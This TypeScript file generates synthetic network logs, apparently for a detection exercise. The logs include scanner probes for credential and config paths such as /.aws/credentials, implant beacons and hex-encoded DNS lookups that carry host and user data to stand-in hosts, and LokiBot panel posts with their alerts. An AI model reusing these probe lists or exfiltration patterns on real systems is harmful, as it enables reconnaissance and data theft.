/** Who looks for configuration from outside at the first site, or tells it to somebody outside. */
import * as agents from "../agents.ts";
import { every } from "../times.ts";
import {
  alert,
  collector,
  type Event,
  hello,
  hellos,
  outside,
  question,
  type Sensor,
  type Subject,
  servers,
  web,
  when,
} from "./event.ts";

function asks(
  sensor: Sensor,
  from: string,
  gapSeconds: number,
  source: string,
  agent: string,
  paths: readonly string[],
  status = 404,
): Event[] {
  return paths.map((path, turn) =>
    web(
      when(from) + turn * gapSeconds * 1000,
      source,
      servers[sensor].web,
      `http://www.talvera.example${path}`,
      agent,
      { status: path === "/" ? 200 : status, length: path === "/" ? 28_411 : 5312 },
    ),
  );
}

const outsideHost = (time: number, client: string, url: string, agent: string, more = {}) =>
  web(time, client, outside(new URL(url).hostname), url, agent, more);
const hex = (text: string) => Buffer.from(text).toString("hex");
const wordsOf = (text: string) => text.split(" ");

export const outsideCollectors: readonly Subject[] = [
  collector(
    "eve",
    "203.0.113.131",
    "web-scan",
    "from outside: nuclei under its own agent at the web server, and an alert on it",
    [
      ...asks(
        "eve",
        "0 03:20:00",
        0.3,
        "203.0.113.131",
        "Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        wordsOf(
          "/.env /.git/config /server-status /actuator/env /phpinfo.php /config.json /web.config /swagger.json /jolokia/version /.aws/credentials /telescope/requests /info.php /.DS_Store /debug/vars /metrics /nginx_status /status /trace.axd /elmah.axd /.svn/entries",
        ),
      ),
      alert(
        "0 03:20:02",
        "203.0.113.131",
        servers.eve.web,
        80,
        1000041,
        "LOCAL SCAN nuclei agent inbound",
        "Attempted Information Leak",
        2,
      ),
    ],
  ),
  collector(
    "eve",
    "198.51.100.141",
    "web-scan",
    "from outside: nmap's scripts at the web server, with alerts",
    [
      ...asks(
        "eve",
        "0 21:02:00",
        0.5,
        "198.51.100.141",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        wordsOf(
          "/ /nmaplowercheck1764104520 /HNAP1 /evox/about /sdk /.git/HEAD /robots.txt /server-status /phpinfo.php /manager/html",
        ),
      ),
      alert(
        "0 21:02:01",
        "198.51.100.141",
        servers.eve.web,
        80,
        2009358,
        "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        "Web Application Attack",
        1,
      ),
    ],
  ),
  collector(
    "eve",
    "192.0.2.151",
    "web-scan",
    "from outside: a script looks for portals of VPN and their versions",
    asks(
      "eve",
      "1 04:40:00",
      2,
      "192.0.2.151",
      agents.requests,
      wordsOf(
        "/global-protect/prelogin.esp /remote/fgt_lang?lang=en /+CSCOE+/logon.html /dana-na/auth/url_default/welcome.cgi /vpn/index.html /sslvpn/Login /remote/login /cgi/login",
      ),
    ),
  ),
  collector(
    "eve",
    "stat-node9.example",
    "outbound-beacon",
    "an implant tells host, user, build, protection and memory in its address, every twenty minutes",
    every(20, "0 12:00:00")
      .slice(0, 80)
      .flatMap((timeMs) => [
        question(timeMs - 40, "10.71.10.133", servers.eve.names, "stat-node9.example"),
        outsideHost(
          timeMs,
          "10.71.10.133",
          "http://stat-node9.example/s.php?h=TAL-GDN-0133&u=izajac&os=10.0.26100&av=Windows+Defender&ram=16&cpu=8&lang=pl-PL&adm=0",
          "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36",
          { length: 4 },
        ),
      ]),
  ),
  collector(
    "eve",
    "kbfvzoboss.example",
    "outbound-beacon",
    "LokiBot's well-known agent sends what it found to its panel, with the rule's alert",
    ["1 08:40:10", "1 08:50:11", "1 09:00:12"].flatMap((time) => [
      outsideHost(
        when(time),
        "10.71.10.147",
        "http://kbfvzoboss.example/alien/fre.php",
        "Mozilla/4.08 (Charon; Inferno)",
        { method: "POST", status: 404, sent: 512, length: 23 },
      ),
      alert(
        time,
        "10.71.10.147",
        outside("kbfvzoboss.example"),
        80,
        2021641,
        "ET MALWARE LokiBot User-Agent (Charon/Inferno)",
        "A Network Trojan was detected",
        1,
      ),
    ]),
  ),
  collector(
    "eve",
    "q7-sync.example",
    "outbound-names",
    "names looked up that hold host, build, protection and user in digits",
    every(15, "0 20:00:00")
      .slice(0, 48)
      .map((timeMs, turn) =>
        question(
          timeMs,
          "10.71.10.158",
          servers.eve.names,
          `${hex(["TAL-GDN-0158", "26100.4652", "WinDefend", "mzielinska", "TALVERA", "x64;16GB"][turn % 6] ?? "")}.${turn}.i.q7-sync.example`,
          "TXT",
          "ok",
        ),
      ),
  ),
  collector(
    "eve",
    "fp-lite.hotel-widgets.example",
    "outbound-page",
    "a page in the clear posts screen, plug-ins, fonts, graphics and clock of three visitors",
    ["0 11:12:10", "0 12:40:31", "1 17:20:05"].map((time, turn) =>
      outsideHost(
        when(time),
        `10.71.10.${171 + turn}`,
        "http://fp-lite.hotel-widgets.example/c?scr=1920x1080x24&tz=-60&lang=pl-PL&plug=PDF%20Viewer,Chrome%20PDF%20Viewer&fonts=Calibri,Segoe%20UI,Aptos&gl=Intel%20Iris%20Xe&cv=7fa01c&au=124.04&hc=8&mem=8",
        agents.chrome,
        { method: "POST", length: 2, referer: "http://hotel-baltyk.example/" },
      ),
    ),
  ),
  collector(
    "eve",
    "10.71.10.183",
    "self-lookup",
    "a Go program asks four services for the own address and its network, each half hour, with alerts",
    every(30, "0 13:00:00")
      .slice(0, 40)
      .flatMap((timeMs) => [
        ...["api.ipify.org", "ipinfo.io", "ifconfig.me"].map((name, turn) =>
          hello(timeMs + turn * 900, "10.71.10.183", outside(name), name, hellos.go),
        ),
        outsideHost(
          timeMs + 4000,
          "10.71.10.183",
          "http://ip-api.com/json/?fields=status,country,isp,as,hosting",
          agents.go,
          { length: 140 },
        ),
        alert(
          timeMs + 4000,
          "10.71.10.183",
          outside("ip-api.com"),
          80,
          2022082,
          "ET INFO External IP Lookup ip-api.com",
          "Device Retrieving External IP Address Detected",
          2,
        ),
      ]),
  ),
];
